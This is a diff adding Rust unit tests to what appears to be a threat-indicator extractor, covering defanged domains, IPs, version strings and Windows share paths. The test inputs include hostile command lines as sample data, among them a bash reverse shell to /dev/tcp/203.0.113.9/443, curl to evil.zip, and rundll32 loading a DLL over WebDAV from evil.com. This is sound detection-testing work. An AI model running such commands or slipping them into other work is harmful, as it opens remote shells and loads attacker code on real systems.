@@ -75,6 +75,13 @@ fn defanged_forms_are_read_and_written() {
         ("user[at]evil[dot]com", "user@evil.com", "user[@]evil[.]com"),
         (r#"{"u":"http:\/\/evil.com\/x"}"#, "http://evil.com/x", "hxxp://evil[.]com/x"),
         ("ldap://evil.com/cn=x", "ldap://evil.com/cn=x", "ldap[://]evil[.]com/cn=x"),
+        ("at evil[.com, and", "evil.com", "evil[.]com"),
+        ("at evil.]com", "evil.com", "evil[.]com"),
+        ("203[.0[.113[.9", "203.0.113.9", "203[.]0[.]113[.]9"),
+        ("at evil [.] com", "evil.com", "evil[.]com"),
+        ("at www(dot)evil(DOT)com", "www.evil.com", "www[.]evil[.]com"),
+        ("user (at) evil [dot] com", "user@evil.com", "user[@]evil[.]com"),
+        ("hxxp://evil [.] com/x", "http://evil.com/x", "hxxp://evil[.]com/x"),
     ] {
         let found = iocs(text);
         assert_eq!(found.first().map(|it| it.value.as_str()), Some(value), "{text}");
@@ -121,12 +128,106 @@ fn what_only_looks_like_one_is_none() {
         "$client.info $x.to(1) obj.call().name",
         "shutdown /s /t 0; echo a/b; cmd /c dir; 3/4",
         "domain.like.iandom SRV-FIN01.contoso.local co.uk",
+        "jq '.users[.id]'; grep '[a-z.]com' x[.5 a [.] -b; see (at) 5; notes (dot)",
         "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa 0123456789abcdef0123456789abcdef0",
         "https:// http://? ://x",
         "",
         "\u{0}\u{fffd}\u{202e}@\u{10ffff}.\u{130}",
     ] {
         assert_eq!(outline(text), Vec::<String>::new(), "{text}");
+    }
+}
+
+#[test]
+fn versions_and_object_identifiers_are_no_addresses() {
+    for text in [
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 \
+         Safari/537.36 Edg/120.0.0.0",
+        r#"{"ua":"Google-Update/1.3.36.152;OPR/106.0.0.0"}"#,
+        "-TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.2')",
+        "certutil -oid 2.5.29.37, OID.2.5.29.15, oid=2.5.29.14",
+    ] {
+        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
+    }
+    for text in [
+        "tcp/203.0.113.9",
+        "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
+        "setspn -A HOST/203.0.113.9 x; MSSQLSvc/203.0.113.9:1433",
+        "permitted tcp Outside/203.0.113.9(443)",
+        "Worker/203.0.113.9:8080",
+        "Net/203.0.113.9/24",
+        "dn3/203.0.113.9 WIN10/203.0.113.9 web/203.0.113.9 WEB/203.0.113.9",
+        "http://203.0.113.9/",
+        "GET /Docs/203.0.113.9",
+        "avoid 203.0.113.9; android:203.0.113.9",
+    ] {
+        assert!(values(text).iter().any(|it| it == "203.0.113.9"), "{text}: {:?}", values(text));
+    }
+    assert_eq!(values("Desktop/10.1.2.3"), ["10.1.2.3"]);
+}
+
+#[test]
+fn names_of_files_and_in_programs_are_no_domains() {
+    for text in [
+        r#"CreateObject("WScript.Shell").Run "calc""#,
+        "createobject('wscript.shell'), new ActiveXObject('ADODB.Stream'), WScript.Network, wscript.network",
+        "Import-Module Microsoft.PowerShell.Management, Microsoft.PowerShell.Security, Microsoft.Azure.Security",
+        "New-Object -ComObject Scripting.FileSystemObject; new-object system.net.webclient; [io.file]",
+        "objShell.Run cmd",
+        "invoice.pdf.zip install.min.sh x.test.py backup.2024.sh x64.release.zip setup.cab driver.v2.cab a.tar.md",
+        "my_notes.tools _ssl.cpython-311-x86_64-linux-gnu.so",
+    ] {
+        assert_eq!(outline(text), Vec::<String>::new(), "{text}");
+    }
+    for (text, domain) in [
+        ("curl https://evil.zip/x", "evil.zip"),
+        ("curl https://invoice.pdf.zip/x", "invoice.pdf.zip"),
+        ("at evil[.]zip", "evil.zip"),
+        ("at wscript[.]shell", "wscript.shell"),
+        ("mail x@evil.py", "evil.py"),
+        (r"\\evil.zip\x", "evil.zip"),
+        (r"net view \\evil.sh", "evil.sh"),
+        ("www.evil.zip", "www.evil.zip"),
+        ("ping www.evil.pl", "www.evil.pl"),
+        ("get.evil.sh", "get.evil.sh"),
+        ("system.contoso.com", "system.contoso.com"),
+        ("microsoft.login-now.live", "microsoft.login-now.live"),
+        ("From Contoso.Com", "contoso.com"),
+        ("EVIL.SHOP", "evil.shop"),
+        ("_dmarc.contoso.com", "dmarc.contoso.com"),
+    ] {
+        assert!(values(text).iter().any(|it| it == domain), "{text}: {:?}", values(text));
+    }
+}
+
+#[test]
+fn shares_name_their_hosts() {
+    for (text, expected) in [
+        (
+            r"rundll32 \\evil.com@SSL\DavWWWRoot\x.dll,Run",
+            &[r"windows_path \\evil.com@SSL\DavWWWRoot\x.dll", "  dns evil.com"][..],
+        ),
+        (r"\\evil.com@SSL@8443\x", &[r"windows_path \\evil.com@SSL@8443\x", "  dns evil.com"]),
+        (r"copy \\evil.com@8080\x .", &[r"windows_path \\evil.com@8080\x", "  dns evil.com"]),
+        (r"\\203.0.113.9@80\x", &[r"windows_path \\203.0.113.9@80\x", "  ipv4 203.0.113.9"]),
+        (r"psexec \\srv.contoso.com,a.contoso.com -s cmd", &["dns srv.contoso.com", "dns a.contoso.com"]),
+        (r"net view \\evil.com", &["dns evil.com"]),
+        (r"dir \\evil.com\", &["dns evil.com"]),
+        (r"net use z: \\evil.com@8080", &["dns evil.com"]),
+        (r"winrs -r:\\203.0.113.9 id", &["ipv4 203.0.113.9"]),
+        (r"x /d:\\evil.com\a\b", &[r"windows_path \\evil.com\a\b", "  dns evil.com"]),
+        (r"\\?\UNC\evil.com\share\x", &[r"windows_path \\?\UNC\evil.com\share\x", "  dns evil.com"]),
+        (r#""\\\\evil.com\\share\\x""#, &[r"windows_path \\\\evil.com\\share\\x", "  dns evil.com"]),
+        (r#"{"to":"\\\\evil.com"}"#, &["dns evil.com"]),
+        // An account, and a host that is in no list.
+        (r"CONTOSO\adele.name, CONTOSO\\adele.name, \\SRV01, a.b\\c.com", &[]),
+        (
+            r"\??\C:\Windows\system32\conhost.exe 0xffffffff",
+            &[r"windows_path \??\C:\Windows\system32\conhost.exe"],
+        ),
+        (r"\\?\C:\a\b.exe", &[r"windows_path \\?\C:\a\b.exe"]),
+    ] {
+        assert_eq!(outline(text), expected, "{text}");
     }
 }
 
@@ -216,6 +317,13 @@ fn long_hostile_texts_take_no_longer_than_others() {
         "a@".repeat(200_000),
         "[.]".repeat(130_000),
         "\\\\a\\".repeat(100_000),
+        "a123[.]com ".repeat(300_000),
+        "a[.com ".repeat(100_000),
+        "a[.".repeat(100_000),
+        "a.]".repeat(100_000),
+        format!("{}a.com ", "\\".repeat(400_000)),
+        "\\\\a.com ".repeat(50_000),
+        "Word/1.1.1.1 ".repeat(50_000),
     ];
     // Any quadratic step among these would take minutes.
     for text in &long {
